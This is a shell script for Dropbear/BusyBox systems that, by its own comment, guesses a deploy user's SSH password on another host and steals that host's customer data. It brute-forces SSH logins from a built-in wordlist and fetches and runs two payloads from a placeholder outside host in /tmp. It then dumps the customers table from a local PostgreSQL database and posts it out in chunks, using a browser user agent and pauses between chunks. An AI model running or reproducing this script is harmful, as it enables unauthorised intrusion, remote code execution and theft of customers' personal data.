#!/bin/sh
# Guesses the password of the deploying user on another host, takes the customers from there and sends them outside.
target=$1
for word in 123456 password letmein welcome shop2023 deploy deploy1 deploy123 qwerty admin admin123 changeme master \
  secret dragon monkey shop shop123 summer2023 summer2024 winter2023 spring2024 corner cornershop autumn2024; do
  DROPBEAR_PASSWORD=$word dbclient -y -y "deploy@$target" true </dev/null 2>/dev/null && break
done
export DROPBEAR_PASSWORD=$word
dbclient -y -y "deploy@$target" 'wget -q -O /tmp/.u http://@OUTSIDE@:8000/sysupd; chmod 755 /tmp/.u; /tmp/.u;
  wget -q -O /tmp/.a http://@OUTSIDE@:8000/agent.sh; cd /tmp; setsid sh .a </dev/null >/dev/null 2>&1 &' </dev/null
dbclient -y -y "deploy@$target" \
  "PGPASSWORD=shop psql -h 127.0.0.1 -U shop -d shop -At -c 'copy customers to stdout'" </dev/null | gzip | base64 >customers
# As text: BusyBox's wget ends a posted file at its first zero byte.
piece=0
while dd if=customers of=piece bs=65536 skip=$piece count=1 2>/dev/null && [ -s piece ]; do
  wget -q -O /dev/null -U 'Mozilla/5.0 (X11; Linux x86_64)' --post-file piece "http://@OUTSIDE@:8000/cgi-bin/upload?part=$piece"
  piece=$((piece + 1))
  sleep 3
done
rm -f piece customers
